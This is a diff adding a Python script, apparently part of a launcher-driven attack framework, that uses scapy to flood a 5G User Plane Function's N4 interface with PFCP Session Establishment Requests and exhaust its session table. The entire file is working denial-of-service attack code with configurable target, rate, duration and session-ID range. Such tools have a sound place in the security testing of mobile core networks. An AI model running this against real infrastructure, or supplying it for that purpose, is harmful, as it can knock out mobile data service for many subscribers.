@@ -0,0 +1,65 @@
+#!/usr/bin/env python3
+"""PFCP Session Establishment flood against the UPF's N4 interface.
+
+Floods the UPF with PFCP Session Establishment Requests, each announcing a
+new CP F-SEID from the range, to exhaust its session table.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP (the UPF's N4 address), PACKET_RATE, DURATION, SEID_MIN and
+SEID_MAX.
+"""
+
+import os
+import time
+
+from scapy.all import IP, UDP, conf, send
+from scapy.contrib.pfcp import (PFCP, IE_ApplyAction, IE_CreateFAR,
+                                IE_CreatePDR, IE_FAR_Id, IE_FSEID, IE_NodeId,
+                                IE_PDI, IE_PDR_Id, IE_Precedence,
+                                IE_SourceInterface,
+                                PFCPSessionEstablishmentRequest)
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.42.0.8")
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "1000"))
+DURATION = int(os.environ.get("DURATION", "0"))
+SEID_MIN = int(os.environ.get("SEID_MIN", "1"))
+SEID_MAX = int(os.environ.get("SEID_MAX", "18446744073709551615"))
+PFCP_PORT = 8805
+
+
+def establishment(source_ip, seid):
+    return PFCPSessionEstablishmentRequest(IE_list=[
+        IE_NodeId(id_type="IPv4", ipv4=source_ip),
+        IE_FSEID(v4=1, seid=seid, ipv4=source_ip),
+        IE_CreatePDR(IE_list=[
+            IE_PDR_Id(id=1),
+            IE_Precedence(precedence=255),
+            IE_PDI(IE_list=[IE_SourceInterface(interface="Access")]),
+            IE_FAR_Id(id=1),
+        ]),
+        IE_CreateFAR(IE_list=[IE_FAR_Id(id=1), IE_ApplyAction(FORW=1)]),
+    ])
+
+
+def main():
+    source_ip = conf.route.route(TARGET_IP)[1]
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    seid = SEID_MIN
+    seq = 1
+    sent = 0
+    while deadline is None or time.time() < deadline:
+        pkt = IP(dst=TARGET_IP) / UDP(sport=PFCP_PORT, dport=PFCP_PORT) / \
+            PFCP(version=1, S=1, seid=0, seq=seq) / establishment(source_ip, seid)
+        send(pkt, verbose=False)
+        sent += 1
+        seq = seq % 0xFFFFFF + 1
+        seid = SEID_MIN if seid >= SEID_MAX else seid + 1
+        if sent % 1000 == 0:
+            print("sent %d session establishment requests" % sent, flush=True)
+        if interval:
+            time.sleep(interval)
+
+
+if __name__ == "__main__":
+    main()